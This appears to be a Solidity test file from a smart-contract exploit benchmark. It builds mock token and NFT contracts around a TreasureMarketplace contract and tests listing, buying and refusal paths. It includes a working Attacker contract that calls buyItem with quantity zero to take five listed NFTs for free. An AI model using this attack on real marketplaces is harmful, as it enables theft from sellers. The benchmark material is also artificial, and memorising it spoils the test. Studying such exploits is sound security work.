// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import "./TreasureMarketplace.sol";

// assay-canary-bdd70171-8e7c-4adb-8e4e-5be824c8092c

interface Vm {
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
    function expectRevert(bytes calldata reason) external;
}

contract Magic is IERC20 {
    address private minter = msg.sender;
    uint8 public silent; // 1: nothing moves to the fee recipient, 2: nothing moves to others
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    function quieten(uint8 how) external {
        require(msg.sender == minter, "minter only");
        silent = how;
    }

    function approve(address spender, uint256 amount) external {
        allowance[msg.sender][spender] = amount;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        if (silent == (to == address(0xFEE) ? 1 : 2)) return false;
        allowance[from][msg.sender] -= amount;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

/// Both kinds of items in one contract.
contract Items is INft {
    address private maker = msg.sender;
    mapping(uint256 => address) public ownerOf;
    mapping(uint256 => mapping(address => uint256)) public stackOf;
    mapping(address => mapping(address => bool)) public isApprovedForAll;

    function make(address to, uint256 tokenId, uint256 quantity) external {
        require(msg.sender == maker, "maker only");
        ownerOf[tokenId] = to;
        stackOf[tokenId][to] += quantity;
    }

    function setApprovalForAll(address operator, bool approved) external {
        isApprovedForAll[msg.sender][operator] = approved;
    }

    function transferFrom(address from, address to, uint256 tokenId) external {
        require(ownerOf[tokenId] == from && isApprovedForAll[from][msg.sender], "not allowed");
        ownerOf[tokenId] = to;
    }

    function safeTransferFrom(address from, address to, uint256 tokenId, uint256 quantity, bytes calldata) external {
        require(isApprovedForAll[from][msg.sender], "not allowed");
        stackOf[tokenId][from] -= quantity;
        stackOf[tokenId][to] += quantity;
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant ANA = address(0xA9A);
    address internal constant BEN = address(0xBE9);
    address internal constant FEES = address(0xFEE);

    Magic internal magic;
    Items internal brains;
    Items internal stacks;
    TreasureMarketplace internal market;
    Attacker internal thief;

    function setUp() public {
        vm.warp(1646300000);
        magic = new Magic();
        brains = new Items();
        stacks = new Items();
        market = new TreasureMarketplace(magic, FEES, 500);
        market.setKind(address(brains), TreasureMarketplace.Kind.SINGLE);
        market.setKind(address(stacks), TreasureMarketplace.Kind.STACK);
        vm.startPrank(ANA);
        brains.setApprovalForAll(address(market), true);
        stacks.setApprovalForAll(address(market), true);
        vm.stopPrank();
        for (uint256 i = 1; i <= 5; ++i) {
            brains.make(ANA, i, 0);
            vm.prank(ANA);
            market.listItem(address(brains), i, 1, 20_000e18, block.timestamp + 30 days);
        }
        stacks.make(ANA, 9, 100);
        magic.mint(BEN, 100_000e18);
        vm.prank(BEN);
        magic.approve(address(market), type(uint256).max);
        thief = new Attacker(market);
    }

    function test_Regular() public {
        vm.prank(BEN);
        market.buyItem(address(brains), 1, ANA, 1, 20_000e18);
        require(brains.ownerOf(1) == BEN && magic.balanceOf(ANA) == 19_000e18 && magic.balanceOf(FEES) == 1_000e18, "sold");
        vm.startPrank(ANA);
        market.listItem(address(stacks), 9, 60, 10e18, block.timestamp + 1);
        market.cancelListing(address(brains), 2);
        vm.stopPrank();
        market.setFee(0, BEN);
        vm.startPrank(BEN);
        market.buyItem(address(stacks), 9, ANA, 40, 10e18);
        market.buyItem(address(stacks), 9, ANA, 20, 10e18);
        vm.stopPrank();
        require(stacks.stackOf(9, BEN) == 60 && magic.balanceOf(ANA) == 19_600e18, "a stack");
        (uint256 left, , uint256 until) = market.listings(address(stacks), 9, ANA);
        require(left == 0 && until == 0, "closed");
    }

    function test_RefusesStrangers() public {
        vm.startPrank(ANA);
        vm.expectRevert("TreasureMarketplace: not owner");
        market.setKind(address(brains), TreasureMarketplace.Kind.STACK);
        vm.expectRevert("TreasureMarketplace: not owner");
        market.setFee(0, ANA);
        vm.stopPrank();
        vm.expectRevert("TreasureMarketplace: fee");
        market.setFee(1_501, FEES);
    }

    function test_RefusesListings() public {
        vm.startPrank(ANA);
        vm.expectRevert("TreasureMarketplace: expired");
        market.listItem(address(brains), 1, 1, 1, block.timestamp);
        vm.expectRevert("TreasureMarketplace: nothing listed");
        market.listItem(address(stacks), 9, 0, 1, block.timestamp + 1);
        vm.expectRevert("TreasureMarketplace: unknown items");
        market.listItem(ANA, 1, 1, 1, block.timestamp + 1);
        vm.expectRevert("TreasureMarketplace: single item");
        market.listItem(address(brains), 1, 2, 1, block.timestamp + 1);
        vm.stopPrank();
    }

    function test_RefusesPurchases() public {
        vm.startPrank(BEN);
        vm.expectRevert("TreasureMarketplace: too many");
        market.buyItem(address(brains), 1, ANA, 2, 20_000e18);
        vm.expectRevert("TreasureMarketplace: price");
        market.buyItem(address(brains), 1, ANA, 1, 20_000e18 - 1);
        vm.expectRevert("TreasureMarketplace: not for sale");
        market.buyItem(address(brains), 6, ANA, 0, 0);
        vm.stopPrank();
        magic.quieten(1);
        vm.prank(BEN);
        vm.expectRevert("TreasureMarketplace: fee not paid");
        market.buyItem(address(brains), 1, ANA, 1, 20_000e18);
        magic.quieten(2);
        vm.prank(BEN);
        vm.expectRevert("TreasureMarketplace: not paid");
        market.buyItem(address(brains), 1, ANA, 1, 20_000e18);
    }

    function exploit() public {
        thief.run(address(brains), ANA);
    }

    function test_Exploit() public {
        uint256 before = sellersHold();
        exploit();
        require(sellersHold() + 80_000e18 <= before, "nothing lost");
    }

    /// What the seller has: tokens, and items at their price.
    function sellersHold() public view returns (uint256 sum) {
        sum = magic.balanceOf(ANA);
        for (uint256 i = 1; i <= 5; ++i) if (brains.ownerOf(i) == ANA) sum += 19_000e18;
    }

    function target() public view returns (address) {
        return address(market);
    }

    function attacker() public view returns (address) {
        return address(thief);
    }
}

/// Buys none of each item.
contract Attacker {
    TreasureMarketplace internal market;

    constructor(TreasureMarketplace market_) {
        market = market_;
    }

    function run(address nft, address seller) external {
        for (uint256 i = 1; i <= 5; ++i) market.buyItem(nft, i, seller, 0, type(uint256).max);
    }
}
